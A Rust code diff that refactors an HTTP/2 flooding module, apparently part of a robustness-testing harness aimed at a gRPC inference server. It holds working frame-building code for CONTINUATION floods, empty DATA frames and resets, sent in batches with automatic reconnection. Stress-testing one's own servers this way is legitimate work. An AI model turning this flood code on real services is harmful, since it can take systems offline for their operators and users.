@@ -10,22 +10,17 @@ use tokio::time::Instant;
 
 use super::{HostileArgs, Shown, TIMES, guests};
 use crate::bars::Bar;
+use crate::frames::{
+    CONTINUATION, DATA, END_HEADERS, END_STREAM, HEADERS, PREFACE, RESET, SETTINGS, field, frame,
+    head,
+};
 use crate::victim::Victim;
 
 const MODEL: &str = "mlp";
-pub(super) const PREFACE: &[u8] = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n";
 /// Frames sent at a time.
 const BATCH: u32 = 500;
 /// How long a connection may live that is being flooded with.
 const PATIENCE: Duration = Duration::from_secs(20);
-
-const DATA: u8 = 0;
-pub(super) const HEADERS: u8 = 1;
-const RESET: u8 = 3;
-pub(super) const SETTINGS: u8 = 4;
-const CONTINUATION: u8 = 9;
-pub(super) const END_STREAM: u8 = 1;
-pub(super) const END_HEADERS: u8 = 4;
 
 #[derive(Clone, Copy, Debug)]
 enum Flood {
@@ -70,11 +65,9 @@ impl Flood {
                 }
                 Self::Continuations => {
                     // A header that is not kept in any table.
-                    let mut field = vec![0x00, 8];
-                    field.extend(format!("x{index:07x}").bytes());
-                    field.push(100);
-                    field.extend([b'y'; 100]);
-                    frame(&mut bytes, (CONTINUATION, 0), 1, &field);
+                    let mut block = Vec::new();
+                    field(&mut block, &format!("x{index:07x}"), &[b'y'; 100]);
+                    frame(&mut bytes, (CONTINUATION, 0), 1, &block);
                 }
                 Self::EmptyData => frame(&mut bytes, (DATA, 0), 1, &[]),
             }
@@ -140,7 +133,7 @@ pub(super) async fn run(args: &HostileArgs) -> Result<Shown> {
 
 /// Sends so many frames, on a new connection whenever one was closed.
 async fn send(address: &str, flood: Flood, wanted: u64) -> Result<Sent> {
-    let head = head(address);
+    let head = head(address, "ServerLive");
     let started = Instant::now();
     let mut sent = Sent::default();
     while sent.frames < wanted && started.elapsed() < PATIENCE {
@@ -180,33 +173,4 @@ async fn send(address: &str, flood: Flood, wanted: u64) -> Result<Sent> {
         sent.frames = sent.frames.max(before + 1);
     }
     Ok(sent)
-}
-
-/// A request's headers, none of them in a table that both sides would have to keep.
-pub(super) fn head(authority: &str) -> Vec<u8> {
-    // POST and http, which every table has.
-    let mut block = vec![0x83, 0x86];
-    let path = "/inference.GRPCInferenceService/ServerLive";
-    for (name, value) in [(4, path), (1, authority), (31, "application/grpc")] {
-        literal(&mut block, name, value);
-    }
-    block
-}
-
-/// A value for a name of the static table; both are shorter than 127.
-fn literal(block: &mut Vec<u8>, name: u8, value: &str) {
-    match name < 15 {
-        true => block.push(name),
-        false => block.extend([15, name - 15]),
-    }
-    block.push(value.len() as u8);
-    block.extend(value.bytes());
-}
-
-pub(super) fn frame(bytes: &mut Vec<u8>, (kind, flags): (u8, u8), stream: u32, payload: &[u8]) {
-    let [_, length @ ..] = (payload.len() as u32).to_be_bytes();
-    bytes.extend(length);
-    bytes.extend([kind, flags]);
-    bytes.extend(stream.to_be_bytes());
-    bytes.extend(payload);
 }
